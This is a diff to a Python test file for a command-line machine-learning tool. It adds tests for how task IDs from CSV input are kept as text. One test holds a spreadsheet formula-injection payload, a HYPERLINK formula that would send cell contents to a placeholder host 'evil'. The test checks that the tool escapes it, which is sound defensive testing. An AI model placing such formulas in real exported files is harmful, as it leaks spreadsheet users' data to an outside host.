@@ -15,12 +15,12 @@ from skmtl.cli.files import FILES
 from tests.cli.conftest import COLUMNS, QUICK, make_table
 
 files = import_module("skmtl.cli.files")
-comparison = import_module("skmtl.cli.comparison")
+strategies = import_module("skmtl.cli.strategies")
 
 
 @pytest.fixture(autouse=True)
 def small_network(monkeypatch):
-    for module in (comparison, import_module("skmtl.grouping.grouped")):
+    for module in (strategies, import_module("skmtl.grouping.grouped")):
         monkeypatch.setattr(
             module,
             "DEFAULT_NETWORK",
@@ -323,3 +323,39 @@ def test_the_module_runs_as_a_command(table, tmp_path):
     assert (done.returncode, done.stderr) == (0, "")
     assert "all together" in done.stdout
     assert sorted(os.listdir(tmp_path / "results")) == sorted(FILES)
+
+
+# ---------------------------------------------------------------------- what a table may hold
+def test_task_ids_of_a_csv_file_are_text_as_it_stands(call, table, tmp_path):
+    names = ["007", "7", "1e3", "NA", "None", "null", "nan", "1234567890123456789"]
+    frame = pd.concat(
+        [table.head(12).assign(shop=name) for name in names] + [table.head(1).assign(shop=None)]
+    )
+    code, out, _ = call(frame=frame)
+    assert code == 0
+    assert "1 row without a task" in out
+    assert list(summary(tmp_path / "results")["tasks"]) == names
+
+
+def test_whole_numbers_with_decimals_lose_them_in_task_ids(call, table, tmp_path):
+    assert call(frame=table.assign(shop=table["shop"].str[-1].astype(float)))[0] == 0
+    assert list(summary(tmp_path / "results")["tasks"]) == ["0", "1", "2", "3"]
+
+
+def test_text_and_missing_inputs_are_taken_as_the_estimators_do(call, table, rng):
+    frame = table.assign(
+        town=np.array(["Rome", "Oslo", None], dtype=object)[rng.integers(0, 3, len(table))],
+        open=rng.random(len(table)) > 0.5,
+        age=table["age"].mask(rng.random(len(table)) < 0.2),
+    )
+    code, out, err = call(frame=frame)
+    assert (code, err) == (0, "")
+    assert "5 inputs" in out
+
+
+def test_names_that_a_spreadsheet_would_run_are_written_as_text(call, table, tmp_path):
+    evil = {"shop 0": '=HYPERLINK("http://evil/?"&A1)', "shop 1": "@SUM(1)", "shop 2": "-5"}
+    assert call(frame=table.replace({"shop": evil}))[0] == 0
+    written = pd.read_csv(tmp_path / "results" / "gains.csv", dtype=str)
+    assert set(written["target"]) == {f"'{evil['shop 0']}", "'@SUM(1)", "-5", "shop 3"}
+    assert evil["shop 0"] in summary(tmp_path / "results")["tasks"]
